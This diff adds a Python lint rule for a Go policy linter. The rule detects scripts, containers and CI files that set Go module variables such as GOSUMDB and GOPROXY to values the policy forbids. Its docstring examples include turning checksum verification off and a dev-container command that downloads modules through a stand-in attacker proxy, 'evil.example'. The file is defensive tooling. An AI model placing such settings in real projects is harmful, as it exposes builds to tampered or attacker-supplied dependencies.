@@ -1,0 +1,123 @@
+"""A command sets a Go variable to a value that the policy does not allow.
+
+`go env -w GOSUMDB=off` changes the machine that runs it for good, `GOPROXY=direct go build` one build, and
+`docker run -e` a container. A policy in `wslgo.yaml` holds for commands in scripts, makefiles, tasks, dev containers
+and CI as for files of settings.
+
+## Example
+
+```yaml policy
+policy:
+  checksums: required
+```
+
+```bash path=scripts/build.sh
+go env -w GOFLAGS=-trimpath GOSUMDB=off
+go build ./...
+```
+
+## Example
+
+```yaml policy
+policy:
+  proxies: ["https://goproxy.example.com"]
+```
+
+```json path=.devcontainer/devcontainer.json
+{"postCreateCommand": "GOPROXY=https://evil.example go mod download"}
+```
+
+## No finding
+
+An allowed value, a comment, and what is only printed:
+
+```yaml policy
+policy:
+  proxies: ["https://goproxy.example.com"]
+  checksums: required
+```
+
+```bash path=scripts/build.sh
+# go env -w GOSUMDB=off
+export GOPROXY=https://goproxy.example.com
+echo "export GOSUMDB=off"
+GOSUMDB=$DATABASE go build ./...
+```
+"""
+
+import re
+from collections.abc import Iterator
+
+from wslgo.goenv.readers import every_assignment
+from wslgo.linter.finding import Finding, Severity
+from wslgo.linter.policy_check import variable_findings
+from wslgo.linter.rules import RuleSubject, rule
+from wslgo.linter.scene import Scene
+from wslgo.syntax.family import (
+    COMPOSE,
+    DEVCONTAINER,
+    DOCKERFILE,
+    ENVRC,
+    FISH,
+    GITLAB,
+    MAKEFILE,
+    MISE,
+    SCRIPT,
+    SETTERS,
+    SHELL,
+    TASKS,
+    WORKFLOW,
+)
+from wslgo.syntax.file import File, comments
+from wslgo.text.pattern import pattern
+from wslgo.text.span import Span
+
+FAMILIES = (COMPOSE, DEVCONTAINER, DOCKERFILE, ENVRC, FISH, GITLAB, MAKEFILE, MISE, SCRIPT, SHELL, TASKS, WORKFLOW)
+# A variable of an old Go, which no file of settings needs.
+_OLD = "GONOSUMCHECK"
+_VARIABLE = r"(GOSUMDB|GOPROXY|GONOSUMDB|GONOSUMCHECK|GONOPROXY|GOPRIVATE|GOINSECURE|GOTOOLCHAIN|GOFLAGS)="
+_VALUE = r"(?:\"([^\"$`\\\n]*)\"|'([^'\n]*)'|([^\s\"'$`;&|<>()\\]+)(?![$`\\(]))"
+_GO_ENV = pattern(r"\bgo[ \t]+env[ \t]+(?:-[a-z]+[ \t]+)*-w[ \t]([^\n;&|]*)")
+_NAMED = pattern(rf"(?:(?<=[\s\"'])|^){_VARIABLE}{_VALUE}")
+_OPTION = r"(?:-e|--env|--build-arg)"
+_GIVEN = pattern(rf"(?:\bexport[ \t]+|(?<!\S){_OPTION}[ \t=]+|\"{_OPTION}\",[ \t]*\"){_VARIABLE}{_VALUE}")
+_BEFORE_COMMAND = pattern(
+    rf"(?:^|[;&|(\"'`]|-[ \t])[ \t]*{_VARIABLE}{_VALUE}[ \t]+(?:[A-Za-z_]+=[^\s]*[ \t]+)*[a-z./]", re.MULTILINE
+)
+_PRINTED = pattern(r"\b(?:echo|printf)\b")
+
+
+@rule(Severity.ERROR, subject=RuleSubject.SOURCE, by_entry=True)
+def check(_source: object, scene: Scene) -> Iterator[Finding]:
+    file = scene.file
+    if scene.policy is None or file.family.name not in (*FAMILIES, *SETTERS):
+        return
+    known = every_assignment(file) if "GO" in file.source.text else ()
+    there = {(found.name, found.value_span.start) for found in known if found.name != _OLD}
+    ignored = tuple(comments(file))
+    for name, value, span in _settings(file):
+        if any(name == other and abs(start - span.start) <= 1 for other, start in there):
+            continue  # the rules about variables have seen it
+        if any(comment.touches(span.start) for comment in ignored):
+            continue
+        for reported in variable_findings(name, value, scene.policy):
+            yield Finding(span, reported.finding.message, related=reported.finding.related)
+
+
+def _settings(file: File) -> Iterator[tuple[str, str, Span]]:
+    """Yield the variables that commands set, with their values and the places of these."""
+    text = file.source.text
+    found: dict[Span, tuple[str, str]] = {}
+    if file.family.name in FAMILIES:
+        places = [Span(*match.span(1)) for match in _GO_ENV.finditer(text)]
+        matches = [match for place in places for match in _NAMED.finditer(text, *place)]
+        matches += [*_GIVEN.finditer(text), *_BEFORE_COMMAND.finditer(text)]
+        for match in matches:
+            group = next(number for number in (2, 3, 4) if match[number] is not None)
+            line = text.rfind("\n", 0, match.start()) + 1
+            if not _PRINTED.search(text, line, match.start(1)):
+                found[Span(*match.span(group))] = match[1], match[group]
+    for assignment in every_assignment(file) if _OLD in text else ():
+        if assignment.name == _OLD and assignment.value and assignment.is_exported:
+            found[assignment.value_span] = _OLD, assignment.value
+    yield from ((name, value, span) for span, (name, value) in sorted(found.items()))
